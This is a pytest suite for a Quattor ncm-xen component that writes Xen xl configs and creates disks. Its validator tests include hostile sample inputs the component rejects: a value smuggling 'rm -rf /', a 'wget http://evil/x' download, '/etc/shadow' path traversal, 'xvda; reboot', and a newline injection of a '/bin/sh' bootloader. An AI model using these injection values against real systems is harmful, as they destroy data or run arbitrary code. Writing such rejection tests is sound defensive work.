"""ncm-xen on a temporary root: configs, disks, idempotence, nothing lost, bad profiles."""

from __future__ import annotations

import copy
import re
from pathlib import Path
from typing import Any

import pytest

from quattor.ncm.component import ComponentError, Context
from quattor.ncm.components.xen import XenComponent
from quattor.profile import ProfileError
from tests.quattor_helpers import profile, shipped, xen_tree

SEED = shipped("cagxen01")["software"]["components"]["xen"]["domains"][0]


def file_only(domain: dict[str, Any]) -> dict[str, Any]:
    d = copy.deepcopy(domain)
    d["disk"] = [x for x in d["disk"] if x["type"] == "file"]
    return d


def configure(root: Path, tree: dict[str, Any], noaction: bool = False) -> Context:
    ctx = Context(root=root, noaction=noaction)
    XenComponent().configure(profile(tree), ctx)
    return ctx


def test_the_seed_domain_becomes_an_xl_config(tmp_path: Path) -> None:
    configure(tmp_path, xen_tree(file_only(SEED)))
    cfg = (tmp_path / "etc/xen/cagnode50.cfg").read_text().splitlines()
    assert 'name = "cagnode50"' in cfg and "memory = 512" in cfg and 'type = "pv"' in cfg
    assert 'bootloader = "/usr/bin/pypxeboot"' in cfg
    # xm evaluated `bootargs = vif[0]` as Python; xl gets the vif itself, which carries the MAC for pypxeboot.
    assert 'bootloader_args = [ "mac=AA:00:86:e2:35:72" ]' in cfg
    assert 'vif = [ "mac=AA:00:86:e2:35:72" ]' in cfg
    assert 'disk = [ "format=raw, vdev=sda, access=rw, target=/var/xen-grid/cagnode50/fs/disk" ]' in cfg


def test_lvm_disk_string(tmp_path: Path) -> None:
    from quattor.ncm.components import xen_model

    config = xen_model.read(profile(xen_tree(SEED)).reader("/software/components/xen"))
    lvm = config.domains[0].options.disks[1]
    assert lvm.xl() == "format=raw, vdev=hda3, access=rw, target=/dev/xenvg/cagnode50-swap"


def test_missing_file_disk_is_created_sparse_and_never_touched_again(tmp_path: Path) -> None:
    ctx = configure(tmp_path, xen_tree(file_only(SEED)))
    disk = tmp_path / "var/xen-grid/cagnode50/fs/disk"
    assert disk.stat().st_size == 10 * 1024**3
    assert disk.stat().st_blocks == 0  # sparse: no block written
    assert any("create sparse file disk" in c for c in ctx.changes)
    with open(disk, "r+b") as f:
        f.write(b"guest data")
    again = configure(tmp_path, xen_tree(file_only(SEED)))
    assert again.changes == []  # a second run with the same profile changes nothing
    bigger = file_only(SEED)
    bigger["disk"][0]["size"] = 20 * 1024
    bigger["memory"] = 1024
    changed = configure(tmp_path, xen_tree(bigger))
    with open(disk, "rb") as f:
        assert f.read(10) == b"guest data"
    assert disk.stat().st_size == 10 * 1024**3
    assert changed.changes == ["update /etc/xen/cagnode50.cfg"]
    assert "memory = 1024" in (tmp_path / "etc/xen/cagnode50.cfg").read_text()
    assert "memory = 512" in (tmp_path / "etc/xen/cagnode50.cfg.old").read_text()


# A 2007 Grid-Ireland host as the QWG templates compiled it (upstream-behaviour.md 3.1 and 3.3):
# create_filesystems false (the templates' default), the 0.1.x list form, the 2007 disk key `device`,
# a file disk ("Files or LVs specified but not existing are created", the talk says).
QWG_2007 = {
    "software": {
        "components": {
            "xen": {
                "active": True,
                "dispatch": True,
                "dependencies": {"pre": ["spma"]},
                "create_filesystems": False,
                "create_domains": False,
                "domains": [
                    {
                        "name": "gridmon",
                        "memory": 256,
                        "bootloader": "/usr/bin/pypxeboot",
                        "bootargs": "vif[0]",
                        "vif": "[ 'mac=AA:00:86:e2:35:7a' ]",
                        "disk": [
                            {"type": "file", "path": "/var/xen/gridmon/disk", "device": "sda1", "rw": "w", "size": 4096}
                        ],
                    }
                ],
            }
        }
    }
}


def test_missing_file_disks_are_made_whatever_create_filesystems_says(tmp_path: Path, capsys: Any) -> None:
    configure(tmp_path, QWG_2007)
    disk = tmp_path / "var/xen/gridmon/disk"
    assert disk.stat().st_size == 4096 * 2**20 and disk.stat().st_blocks == 0  # made, and sparse
    assert "created although create_filesystems is false" in capsys.readouterr().err
    assert "vdev=sda1" in (tmp_path / "etc/xen/gridmon.cfg").read_text()


def test_create_filesystems_false_still_leaves_missing_volumes_alone(tmp_path: Path, capsys: Any) -> None:
    lvm_only = dict(SEED, disk=[d for d in SEED["disk"] if d["type"] == "lvm"])
    with pytest.raises(ComponentError, match=r"1 of 1 domains failed \(cagnode50\)"):
        configure(tmp_path, xen_tree(lvm_only, create_filesystems=False))  # no VG on this machine
    assert (tmp_path / "etc/xen/cagnode50.cfg").exists()  # the config is still written


def test_noaction_changes_nothing_and_says_what_it_would_do(tmp_path: Path) -> None:
    ctx = configure(tmp_path, xen_tree(file_only(SEED)), noaction=True)
    assert list(tmp_path.iterdir()) == []
    assert "create /etc/xen/cagnode50.cfg" in ctx.changes


def test_nlist_form_install_options_and_auto(tmp_path: Path) -> None:
    options = file_only(SEED)
    install = dict(options, extra="ks=http://gridinstall/ks/cagnode50.ks")
    tree = {
        "software": {
            "components": {
                "xen": {"domains": {"cagnode50": {"options": options, "install_options": install, "auto": True}}}
            }
        }
    }
    configure(tmp_path, tree)
    link = tmp_path / "etc/xen/auto/cagnode50.cfg"
    assert link.is_symlink() and str(link.readlink()) == "/etc/xen/cagnode50.cfg"
    assert 'extra = "ks=http://gridinstall/ks/cagnode50.ks"' in (tmp_path / "etc/xen/cagnode50.start").read_text()
    tree["software"]["components"]["xen"]["domains"]["cagnode50"]["auto"] = False
    configure(tmp_path, tree)
    assert not link.exists() and not link.is_symlink()


def test_hvm_guest(tmp_path: Path) -> None:
    hvm = shipped("cagxen01")["software"]["components"]["xen"]["domains"][2]
    hvm = dict(hvm, disk=[])
    configure(tmp_path, xen_tree(hvm))
    cfg = (tmp_path / "etc/xen/cagnode52.cfg").read_text().splitlines()
    assert 'type = "hvm"' in cfg and 'boot = "nc"' in cfg and "vnc = 0" in cfg
    assert not any(line.startswith("bootloader") for line in cfg)


def test_an_hvm_guests_disk_emulation_is_passed_to_xl_and_checked(tmp_path: Path) -> None:
    hvm = dict(shipped("cagxen01")["software"]["components"]["xen"]["domains"][2], disk=[])
    configure(tmp_path, xen_tree(dict(hvm, hdtype="ahci")))
    assert 'hdtype = "ahci"' in (tmp_path / "etc/xen/cagnode52.cfg").read_text().splitlines()
    with pytest.raises(ProfileError, match=r"domains/0/hdtype: expected one of ide, ahci, got 'scsi'"):
        configure(tmp_path, xen_tree(dict(hvm, hdtype="scsi")))


def test_device_model_arguments_are_written_as_xl_lists(tmp_path: Path) -> None:
    """xl.cfg(5)'s `device_model_args_hvm`: each argument its own string, in the profile's order."""
    hvm = shipped("cagxen01")["software"]["components"]["xen"]["domains"][2]
    args = ["-chardev", "file,id=s,path=/var/log/xen/s.log,append=on", "-serial", "chardev:s"]
    configure(tmp_path, xen_tree(dict(hvm, disk=[], device_model_args_hvm=args)))
    cfg = (tmp_path / "etc/xen/cagnode52.cfg").read_text().splitlines()
    assert (
        'device_model_args_hvm = [ "-chardev", "file,id=s,path=/var/log/xen/s.log,append=on", "-serial", "chardev:s" ]'
        in cfg
    )


def test_domains_wait_for_xen_when_xl_is_not_there(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ctx = configure(tmp_path, xen_tree(file_only(SEED), create_domains=True))
    assert (tmp_path / "etc/xen/cagnode50.cfg").exists()
    assert "the domains will start when Xen is up" in capsys.readouterr().err
    assert not any("xl create" in c for c in ctx.changes)


@pytest.mark.parametrize(
    ("change", "path", "message"),
    [
        ({"memory": "512MB"}, "/software/components/xen/domains/0/memory", 'positive integer (MiB), got "512MB"'),
        ({"name": None}, "/software/components/xen/domains/0/name", "required"),
        ({"bootloader": '/usr/bin/pypxeboot"; rm -rf /'}, "/software/components/xen/domains/0/bootloader", "quote"),
        ({"extra": "a\nb"}, "/software/components/xen/domains/0/extra", "control character"),
        ({"download": ["wget http://evil/x"]}, "/software/components/xen/domains/0/download", "does not run commands"),
        ({"bootargs": "vif[3]"}, "/software/components/xen/domains/0/bootargs", "names a vif the domain does not have"),
        ({"on_crash": "explode"}, "/software/components/xen/domains/0/on_crash", "expected one of"),
        ({"device_model_args": "-snapshot"}, "/software/components/xen/domains/0/device_model_args", "list of strings"),
        (
            {"device_model_args_hvm": ['-serial", "pty']},
            "/software/components/xen/domains/0/device_model_args_hvm",
            "quote",
        ),
    ],
)
def test_bad_values_name_their_profile_path(tmp_path: Path, change: dict[str, Any], path: str, message: str) -> None:
    domain = {k: v for k, v in dict(file_only(SEED), **change).items() if v is not None}
    with pytest.raises(ProfileError) as err:
        configure(tmp_path, xen_tree(domain))
    assert str(err.value).startswith(path) and message in str(err.value)
    assert not (tmp_path / "etc").exists()  # validated before anything was written


@pytest.mark.parametrize(
    ("disk", "path"),
    [
        ({"type": "floppy", "guestdevice": "xvda"}, "disk/0/type"),
        ({"type": "file", "path": "relative/disk", "guestdevice": "xvda", "size": 1}, "disk/0/path"),
        ({"type": "file", "path": "/a/../etc/shadow", "guestdevice": "xvda", "size": 1}, "disk/0/path"),
        ({"type": "lvm", "hostdevice": "xenvg", "hostvol": "-x", "guestdevice": "xvda"}, "disk/0/hostvol"),
        ({"type": "file", "path": "/d", "guestdevice": "xvda; reboot", "size": 1}, "disk/0/guestdevice"),
        ({"type": "file", "path": "/d", "guestdevice": "xvda\n", "size": 1}, "disk/0/guestdevice"),  # `$` let it by
        ({"type": "phy", "hostdevice": "/dev/../../etc/shadow", "guestdevice": "xvda"}, "disk/0/hostdevice"),
        ({"type": "phy", "hostdevice": "-rf", "guestdevice": "xvda"}, "disk/0/hostdevice"),
        (
            {"type": "lvm", "hostdevice": "vg", "hostvol": "lv", "guestdevice": "xvda", "create": True, "path": "-ff"},
            "disk/0/path",
        ),
        ({"type": "file", "path": "/d", "guestdevice": "xvda", "size": 2**40}, "disk/0/size"),
    ],
)
def test_bad_disks_name_their_path(tmp_path: Path, disk: dict[str, Any], path: str) -> None:
    with pytest.raises(ProfileError, match=f"/software/components/xen/domains/0/{path}"):
        configure(tmp_path, xen_tree(dict(file_only(SEED), disk=[disk])))


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"name": "cagnode50\n"}, "/software/components/xen/domains/0/name: expected a domain name"),
        ({"memory": 10**30}, "/software/components/xen/domains/0/memory: 1000000000000000000000000000000 MiB is more"),
        ({"vif": ['mac=AA:00:86:e2:35:72\nbootloader = "/bin/sh"']}, "/software/components/xen/domains/0/vif"),
    ],
)
def test_hostile_domain_values_are_refused(tmp_path: Path, change: dict[str, Any], message: str) -> None:
    with pytest.raises(ProfileError, match=re.escape(message)):
        configure(tmp_path, xen_tree(dict(file_only(SEED), **change)))
    assert not (tmp_path / "etc").exists()


def test_two_domains_with_one_name_are_refused(tmp_path: Path) -> None:
    options = file_only(SEED)
    tree = {"software": {"components": {"xen": {"domains": {"a": {"options": options}, "b": {"options": options}}}}}}
    with pytest.raises(ProfileError, match="two domains with the same name 'cagnode50'"):
        configure(tmp_path, tree)


def test_a_disk_that_cannot_be_made_leaves_nothing_behind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import os as os_module

    def no_room(fd: int, size: int) -> None:
        raise OSError(27, "File too large")

    monkeypatch.setattr(os_module, "ftruncate", no_room)
    with pytest.raises(ComponentError, match="1 of 1 domains failed"):
        configure(tmp_path, xen_tree(file_only(SEED)))
    assert not (tmp_path / "var/xen-grid/cagnode50/fs/disk").exists()  # no 0-byte disk passing for a made one


def test_a_dangling_symlink_at_a_disk_path_is_an_error_not_a_traceback(tmp_path: Path, capsys: Any) -> None:
    link = tmp_path / "var/xen-grid/cagnode50/fs/disk"
    link.parent.mkdir(parents=True)
    link.symlink_to("/nonexistent/elsewhere")
    with pytest.raises(ComponentError, match="1 of 1 domains failed"):
        configure(tmp_path, xen_tree(file_only(SEED)))
    assert "is a symlink to nothing (/nonexistent/elsewhere)" in capsys.readouterr().err
    assert link.is_symlink() and not (tmp_path / "nonexistent").exists()


def test_vgcreate_is_never_told_yes(tmp_path: Path) -> None:
    bindir = tmp_path / "bin"
    bindir.mkdir()
    log = tmp_path / "calls"
    for tool, status in (("vgs", 5), ("lvs", 5), ("vgcreate", 0), ("lvcreate", 0)):
        (bindir / tool).write_text(f'#!/bin/sh\necho "{tool} $*" >> {log}\nexit {status}\n')
        (bindir / tool).chmod(0o755)
    disk = {"type": "lvm", "hostdevice": "xenvg", "hostvol": "v", "guestdevice": "xvda", "size": 8}
    disk.update(create=True, path="/dev/vdb")
    ctx = Context(root=tmp_path, env={"PATH": str(bindir), "LC_ALL": "C"})
    XenComponent().configure(profile(xen_tree(dict(file_only(SEED), disk=[disk]))), ctx)
    assert "vgcreate xenvg /dev/vdb" in log.read_text().splitlines()


def test_unknown_keys_are_warned_about(tmp_path: Path) -> None:
    p = profile(xen_tree(dict(file_only(SEED), colour="blue")))
    XenComponent().configure(p, Context(root=tmp_path))
    assert p.warnings == ["/software/components/xen/domains/0/colour: unknown key, ignored"]


def test_a_missing_volume_group_is_an_error_unless_asked_for(tmp_path: Path, capsys: Any) -> None:
    # No LVM on this machine: vgs fails, and the profile did not ask for the group to be made.
    with pytest.raises(ComponentError, match="domains failed"):
        configure(tmp_path, xen_tree(SEED))
    err = capsys.readouterr().err
    assert "domain cagnode50: volume group xenvg does not exist; " in err and "set create and path" in err


def fake_xl(tmp_path: Path, *, running: tuple[str, ...] = (), failing: tuple[str, ...] = ()) -> dict[str, str]:
    """A PATH whose `xl` says Xen is up, that `running` domains run, and fails `xl create` for `failing`."""
    bindir = tmp_path / "fakebin"
    bindir.mkdir()
    (bindir / "xl").write_text(
        "#!/bin/sh\n"
        'case "$1" in\n'
        "  info) echo 'host : fake'; exit 0;;\n"
        f'  domid) for d in {" ".join(running) or "-"}; do [ "$2" = "$d" ] && exit 0; done; exit 1;;\n'
        f'  create) for d in {" ".join(failing) or "-"}; do case "$2" in */$d.cfg) '
        "echo 'libxl: error: libxl_bootloader.c:767:bootloader_finished: Domain 1:bootloader failed - consult "
        "logfile /var/log/xen/bootloader.1.log' >&2; exit 3;; esac; done; exit 0;;\n"
        "esac\n"
    )
    (bindir / "xl").chmod(0o755)
    return {"PATH": f"{bindir}:/usr/sbin:/usr/bin:/sbin:/bin", "LC_ALL": "C"}


def two_domains() -> dict[str, Any]:
    """The seed's cagnode50 (its LV needs volume group xenvg, which this machine cannot have) and a file-only
    domain: one domain's missing disk must not stop the other."""
    other = dict(file_only(SEED), name="gridmon", vif=["mac=AA:00:86:e2:35:7a"])
    other["disk"] = [dict(other["disk"][0], path="/var/xen/gridmon/disk")]
    return xen_tree(SEED, other, create_domains=True)


def test_noaction_shows_every_file_and_command_although_one_disk_cannot_be_made(tmp_path: Path, capsys: Any) -> None:
    ctx = Context(root=tmp_path, noaction=True, env=fake_xl(tmp_path))
    with pytest.raises(ComponentError, match=r"1 of 2 domains failed \(cagnode50\)"):
        XenComponent().configure(profile(two_domains()), ctx)
    err = capsys.readouterr().err
    assert "[ERROR] domain cagnode50: volume group xenvg does not exist" in err
    for name in ("cagnode50", "gridmon"):  # both configs, in full
        assert f"would write /etc/xen/{name}.cfg:" in err
        assert f'    | name = "{name}"' in err
    assert "would create sparse file disk /var/xen/gridmon/disk" in err
    assert f"would run xl create {tmp_path}/etc/xen/gridmon.cfg" in err  # the one that can start
    assert f"xl create {tmp_path}/etc/xen/cagnode50.cfg" not in err  # its disk is missing: never started
    assert sorted(p.name for p in tmp_path.iterdir()) == ["fakebin"]  # nothing written


def test_one_domain_failing_to_start_does_not_stop_the_others(tmp_path: Path, capsys: Any) -> None:
    tree = two_domains()
    domains = tree["software"]["components"]["xen"]["domains"]
    domains[0] = file_only(SEED)
    ctx = Context(root=tmp_path, env=fake_xl(tmp_path, failing=("cagnode50",)))
    with pytest.raises(ComponentError, match=r"1 of 2 domains failed \(cagnode50\)"):
        XenComponent().configure(profile(tree), ctx)
    assert "[ERROR] domain cagnode50: xl create" in capsys.readouterr().err
    assert f"run xl create {tmp_path}/etc/xen/gridmon.cfg" in ctx.changes


def test_a_failed_bootloader_is_named_with_its_own_last_word(tmp_path: Path, capsys: Any) -> None:
    """libxl only says "bootloader failed - consult logfile …": the reason (pypxeboot's, here as it wrote it in
    the lab) is in that log, and the domain's error line carries it."""
    tree = xen_tree(file_only(SEED), create_domains=True)
    log = tmp_path / "var/log/xen/bootloader.1.log"
    log.parent.mkdir(parents=True)
    log.write_text(
        "pypxeboot:   0.05 lease 10.77.0.253 from 10.77.0.1, boot server 10.77.0.1\n"
        "pypxeboot: TFTP pxelinux.cfg: no config on 10.77.0.1 (tried 01-aa-00-86-e2-35-72, 0A4D00FD, default)\n\n"
    )
    ctx = Context(root=tmp_path, env=fake_xl(tmp_path, failing=("cagnode50",)))
    with pytest.raises(ComponentError, match=r"1 of 1 domains failed"):
        XenComponent().configure(profile(tree), ctx)
    err = capsys.readouterr().err
    line = next(line for line in err.splitlines() if line.startswith("[ERROR] domain cagnode50:"))
    assert line.endswith(
        "; the bootloader said: pypxeboot: TFTP pxelinux.cfg: no config on 10.77.0.1 "
        "(tried 01-aa-00-86-e2-35-72, 0A4D00FD, default)"
    ), line
    log.unlink()  # no log (or one libxl could not write): the error is xl's alone, still whole
    with pytest.raises(ComponentError):
        XenComponent().configure(profile(tree), Context(root=tmp_path, env=ctx.env))
    assert "the bootloader said" not in capsys.readouterr().err
